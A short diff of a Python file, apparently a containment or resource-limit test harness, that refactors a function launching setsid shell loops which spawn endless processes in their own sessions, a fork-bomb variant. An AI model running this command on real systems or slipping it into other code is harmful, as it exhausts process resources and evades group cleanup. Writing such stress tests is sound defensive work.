@@ -113,11 +113,8 @@ def _fork() -> None:
 
 def _bomb_of_shells() -> None:
     """Shells that start processes without end, in groups of their own."""
-    subprocess.run(["sh", "-c", f"{_SHELLS}; {_SHELLS}; sleep 600"], check=False)
-
-
-_SHELLS = "setsid sh -c 'while :; do sleep 600 & sleep 0.01; done' &"
-_SHELLS = f"{{ {_SHELLS} }}"
+    loop = "setsid sh -c 'while :; do sleep 600 & sleep 0.01; done' &"
+    subprocess.run(["sh", "-c", f"{loop} {loop} sleep 600"], check=False)
 
 
 def _eat_elsewhere() -> None:
